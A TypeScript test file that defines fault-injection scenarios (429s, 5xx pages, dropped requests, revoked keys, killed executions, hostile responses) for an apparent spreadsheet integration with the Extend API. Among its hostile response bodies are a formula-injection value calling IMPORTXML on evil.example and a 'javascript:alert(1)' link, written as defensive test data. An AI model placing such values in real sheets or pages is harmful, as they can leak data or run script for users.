// The fault matrix: each fault alone, then all of them mixed at random rates, for every job kind. A scenario says
// what the stand-in does wrong (fault rules, aimed at the requests of the kind under test), what the host does
// wrong (a fetchAll that throws, its answer to an open question), and what the user does meanwhile (executions
// killed, rows sorted between executions). Hostile answers (a field missing or of the wrong type, deep nesting,
// huge strings) strike chosen rows on every request, so the checks know exactly which rows must show them.
import { ECHO_API_KEY, ECHO_RUN_ID, type FaultMatch, type FaultRule } from "../../dev/stand-in/faults.js";
import type { HostileCursor } from "../../dev/stand-in/list.js";
import { DEEP_AND_HUGE, LIST, listHostileRules, MISSING_FIELDS, perRule } from "./hostile.js";
import type { KindId } from "./kinds.js";
import type { HostileAnswer, RowIntent } from "./sheet.js";

/** Rate of faults for the scenarios of one fault alone: the harsher of the two mixed rates. */
export const ALONE_RATE = 0.2;

export interface HostileRows {
  answers: readonly HostileAnswer[];
  rowsEach: number;
}

export interface ScenarioContext {
  intents: readonly RowIntent[];
  /** The requests the job kind makes that faults aim at (e.g. POST for a sync that replaces tags, GET for a refresh). */
  on: FaultMatch;
  /** The kind reads List's pages (an import): answers a page could never be are different there. */
  list: boolean;
}

export interface Scenario {
  id: string;
  /** The fault, as the report names it. */
  title: string;
  group: "alone" | "mixed";
  /** Share of requests (or fetchAll calls, executions) that meet a fault; 0 for a fixed set of rows. */
  rate: number;
  /** Fault rules armed for the scenario's jobs (the 422 rows' and hostile rows' rules are added by the runner). */
  faults(context: ScenarioContext): FaultRule[];
  /** 404 rows (no such run in Extend) and 422 rows (Extend refuses their values). */
  notFoundRows?: number;
  refusedRows?: number;
  /** Hostile answers, each given to `rowsEach` update rows spread through the sheet. */
  hostile?: HostileRows;
  /** Chance that a fetchAll call throws before sending anything, as a failing UrlFetchApp would. */
  fetchAllThrows?: number;
  /** Host answer to an open question: does one transport failure fail the whole fetchAll? Default yes. */
  fetchAllThrowsOnTransportError?: boolean;
  /** Chance per execution that it is killed at a random point of its budget. */
  killRate?: number;
  /** Chance, after each execution, that the user sorts the rows by a random column before the next one. */
  sortRate?: number;
  /** Seconds an execution works before it pauses (more executions: more kill and sort points). */
  executionBudgetSeconds?: number;
  /** Keep history on (issue 18): the history kinds; off for the others. */
  keepHistory?: boolean;
  /** Jobs that stop (401, 402) before the one that finishes: the user starts the job again after each. */
  stops?: number;
  /** 200 answers that are not the run: the Run Status cell shows what the answer said. */
  answersMayLie?: boolean;
  /** The stand-in's own rate limit (requests per second); default off. */
  extendRate?: number;
  /** The job kinds the scenario means something for; default all. */
  appliesTo?: (kind: KindId) => boolean;
  /** A List whose cursors go round: the import must stop, saying so, with the runs read so far. */
  cursor?: HostileCursor;
}

const unlimited = "unlimited" as const;

const nginxPage = (status: number, title: string) =>
  `<html>\r\n<head><title>${status} ${title}</title></head>\r\n<body>\r\n<center><h1>${status} ${title}</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n`;

type Transient = (p: number, context: ScenarioContext) => FaultRule[];

/** 200 answers that are not what was asked for: what a proxy, a cache or a broken server may send. */
const unexpectedBodies: Transient = (p, { on, list }) => {
  const rule = (body: string, apply: boolean, contentType = "application/json"): FaultRule => ({
    kind: "custom",
    status: 200,
    body,
    apply,
    contentType,
    probability: 0,
    times: unlimited,
    match: on,
  });
  const rules: FaultRule[] = [
    // A JSON that is not what was asked for, not applied.
    list
      ? rule(`{"object":"workflow_run","id":"${ECHO_RUN_ID}"}`, false)
      : rule('{"object":"list","data":[]}', false),
    // A proxy's HTML page with 200, after the update was stored; it quotes the caller's key.
    rule(`<html><body><h1>Welcome to nginx!</h1><!-- ${ECHO_API_KEY} --></body></html>`, true, "text/html"),
    // An empty body, not applied.
    rule("", false),
  ];
  // A page of List whose runs are wrong cannot be told from a real page; only the runs' own answers can lie so.
  if (!list)
    rules.push(
      // The run, with a 60,000-character status: more than a cell holds.
      rule(
        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"${"S".repeat(60_000)}","dashboardUrl":"https://dashboard.extend.ai/workflows/${ECHO_RUN_ID}"}`,
        true,
      ),
      // The run, with a status that is a formula and a link that is not a web address.
      rule(
        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"=IMPORTXML(\\"https://evil.example\\",\\"//a\\")","dashboardUrl":"javascript:alert(1)"}`,
        true,
      ),
    );
  const q = perRule(p, rules.length);
  return rules.map((made) => ({ ...made, probability: q }));
};

/** Transient faults by name, each at probability p, on the kind's requests. */
const TRANSIENT: Record<string, Transient> = {
  "429 with Retry-After": (p, { on }) => [
    {
      kind: "status",
      status: 429,
      headers: { "Retry-After": "2" },
      message: "Rate limit exceeded. Retry with backoff.",
      probability: p,
      times: unlimited,
      match: on,
    },
  ],
  "429 without Retry-After": (p, { on }) => [
    { kind: "status", status: 429, probability: p, times: unlimited, match: on },
  ],
  "408 from a proxy": (p, { on }) => [
    {
      kind: "custom",
      status: 408,
      contentType: "text/html",
      body: nginxPage(408, "Request Time-out"),
      probability: p,
      times: unlimited,
      match: on,
    },
  ],
  "500": (p, { on }) => [{ kind: "500-json", probability: p, times: unlimited, match: on }],
  "502 with an HTML page": (p, { on }) => [{ kind: "502-html", probability: p, times: unlimited, match: on }],
  "503": (p, { on }) => [{ kind: "503", probability: p, times: unlimited, match: on }],
  "504": (p, { on }) => [{ kind: "status", status: 504, probability: p, times: unlimited, match: on }],
  // Four in five slow answers take 4 s; the rest 61 s, past UrlFetchApp's 60-second timeout, after the request
  // was handled.
  "slow answers": (p, { on }) => [
    { kind: "delay", delayMs: 61_000, probability: p / 5, times: unlimited, match: on },
    { kind: "delay", delayMs: 4_000, probability: (p * 4) / 5, times: unlimited, match: on },
  ],
  "dropped before the request is handled": (p, { on }) => [
    { kind: "drop", probability: p, times: unlimited, match: on },
  ],
  "dropped after the request is handled": (p, { on }) => [
    { kind: "drop-after-apply", probability: p, times: unlimited, match: on },
  ],
  "malformed 200": (p, { on }) => [{ kind: "malformed", probability: p, times: unlimited, match: on }],
  "unexpected 200 bodies": unexpectedBodies,
};

const transientMix = (rate: number, context: ScenarioContext): FaultRule[] => {
  const kinds = Object.values(TRANSIENT);
  return kinds.flatMap((rules) => rules(perRule(rate, kinds.length), context));
};

/** 401 and 402 in the middle of a job: once each, on a row a third and two thirds of the way down. */
function stopRules(intents: readonly RowIntent[], which: ("401" | "402")[]): FaultRule[] {
  const updates = intents.filter((intent) => intent.kind === "update");
  return which.map((status, index) => {
    const at = updates[Math.floor((updates.length * (index + 1)) / (which.length + 1))];
    return status === "401"
      ? {
          kind: "status",
          status: 401,
          message: `Invalid API key ${ECHO_API_KEY}: the key was revoked.`,
          match: { runId: at?.runId ?? "" },
        }
      : {
          kind: "status",
          status: 402,
          code: "USAGE_BLOCKED",
          message: "Your organization is blocked for insufficient credits.",
          match: { runId: at?.runId ?? "" },
        };
  });
}

/**
 * 401 and 402 on List, once each, at a random page: an import waits for the person to fix the key or the
 * credits, then goes on from its cursor.
 */
function listStopRules(which: ("401" | "402")[]): FaultRule[] {
  return which.map(
    (status): FaultRule =>
      status === "401"
        ? {
            kind: "status",
            status: 401,
            message: `Invalid API key ${ECHO_API_KEY}.`,
            probability: 0.15,
            match: LIST,
          }
        : { kind: "status", status: 402, code: "USAGE_BLOCKED", probability: 0.15, match: LIST },
  );
}

const stopsOf = (context: ScenarioContext, which: ("401" | "402")[]) =>
  context.list ? listStopRules(which) : stopRules(context.intents, which);

const alone = (title: string, id: string): Scenario => ({
  id,
  title,
  group: "alone",
  rate: ALONE_RATE,
  faults: (context) => TRANSIENT[title]?.(ALONE_RATE, context) ?? [],
  ...(title === "unexpected 200 bodies" ? { answersMayLie: true } : {}),
});

const mixed = (rate: number): Scenario => ({
  id: `mixed-${Math.round(rate * 100)}`,
  title: `everything mixed at ${Math.round(rate * 100)}%`,
  group: "mixed",
  rate,
  faults: (context) => [
    ...stopsOf(context, ["401", "402"]),
    ...transientMix(rate, context),
    ...(context.list ? listHostileRules([...MISSING_FIELDS, ...DEEP_AND_HUGE], rate / 2) : []),
  ],
  notFoundRows: 10,
  refusedRows: 10,
  hostile: { answers: [...MISSING_FIELDS, ...DEEP_AND_HUGE], rowsEach: 2 },
  fetchAllThrows: rate,
  killRate: 0.5,
  sortRate: 0.5,
  executionBudgetSeconds: 60,
  stops: 2,
  answersMayLie: true,
});

const BASE_SCENARIOS: readonly Scenario[] = [
  { id: "none", title: "no fault (control)", group: "alone", rate: 0, faults: () => [] },
  alone("429 with Retry-After", "429-ra"),
  alone("429 without Retry-After", "429"),
  {
    id: "429-extend",
    title: "429 from Extend's own limit (5/s, add-on at 10/s)",
    group: "alone",
    rate: 0,
    faults: () => [],
    extendRate: 5,
  },
  alone("408 from a proxy", "408"),
  alone("500", "500"),
  alone("502 with an HTML page", "502"),
  alone("503", "503"),
  alone("504", "504"),
  alone("slow answers", "slow"),
  alone("dropped before the request is handled", "drop"),
  {
    ...alone("dropped before the request is handled", "drop-kept"),
    title: "dropped before the request is handled, fetchAll keeping the other answers",
    fetchAllThrowsOnTransportError: false,
  },
  alone("dropped after the request is handled", "drop-applied"),
  {
    id: "fetchall-throws",
    title: "a fetchAll that throws",
    group: "alone",
    rate: ALONE_RATE,
    faults: () => [],
    fetchAllThrows: ALONE_RATE,
  },
  alone("malformed 200", "malformed"),
  alone("unexpected 200 bodies", "unexpected-200"),
  {
    id: "missing-fields",
    title: "answers without required fields",
    group: "alone",
    rate: 0,
    faults: (context) => (context.list ? listHostileRules(MISSING_FIELDS, ALONE_RATE) : []),
    hostile: { answers: MISSING_FIELDS, rowsEach: 6 },
  },
  {
    id: "deep-huge",
    title: "metadata nested 5,000 levels deep, 60,000-character values",
    group: "alone",
    rate: 0,
    faults: (context) => (context.list ? listHostileRules(DEEP_AND_HUGE, ALONE_RATE) : []),
    hostile: { answers: DEEP_AND_HUGE, rowsEach: 6 },
  },
  {
    id: "404-422",
    title: "404 and 422 rows",
    group: "alone",
    rate: 0,
    faults: () => [],
    notFoundRows: 20,
    refusedRows: 20,
    // A plain import reads no run by its id; with current values, some listed runs are gone or refused.
    appliesTo: (kind) => kind !== "import",
  },
  {
    id: "401",
    title: "401 in the middle of a job",
    group: "alone",
    rate: 0,
    faults: (context) => stopsOf(context, ["401"]),
    stops: 1,
  },
  {
    id: "402",
    title: "402 in the middle of a job",
    group: "alone",
    rate: 0,
    faults: (context) => stopsOf(context, ["402"]),
    stops: 1,
  },
  {
    id: "kills",
    title: "executions killed at random points",
    group: "alone",
    rate: 0.5,
    faults: () => [],
    killRate: 0.5,
    executionBudgetSeconds: 30,
  },
  {
    id: "sorts",
    title: "rows sorted between executions",
    group: "alone",
    rate: 1,
    faults: () => [],
    sortRate: 1,
    executionBudgetSeconds: 30,
  },
  ...(["cycle", "fresh", "repeat", "creep"] as const).map(
    (cursor): Scenario => ({
      id: `cursor-${cursor}`,
      title: {
        cycle: "List cursors that cycle (A, B, A…)",
        fresh: "a fresh List cursor each page with the same runs",
        repeat: "List sending back the cursor it was given",
        creep: "List cursors that move on by one run a page",
      }[cursor],
      group: "alone",
      rate: 1,
      faults: () => [{ kind: "list-cursor", cursor, times: unlimited, match: LIST }],
      appliesTo: (kind) => kind === "import" || kind === "import-current",
      cursor,
    }),
  ),
  mixed(0.05),
  mixed(0.2),
];

/**
 * The scenarios the history kinds (a sync with history, an undo) run: one of each family (a 429, a 5xx, timeouts,
 * an update applied but its answer lost, answers that lie, a stop, kills, sorts, everything mixed), so the two
 * add about a minute to the matrix rather than five.
 */
const HISTORY_SCENARIOS: ReadonlySet<string> = new Set([
  "none",
  "429-ra",
  "500",
  "slow",
  "drop-applied",
  "unexpected-200",
  "401",
  "kills",
  "sorts",
  "mixed-20",
]);

const isHistoryKind = (kind: KindId) => kind === "history" || kind === "undo";

export const SCENARIOS: readonly Scenario[] = BASE_SCENARIOS.map((scenario) => {
  const applies = scenario.appliesTo;
  return {
    ...scenario,
    appliesTo: (kind: KindId) =>
      isHistoryKind(kind) ? HISTORY_SCENARIOS.has(scenario.id) : (applies?.(kind) ?? true),
  };
});
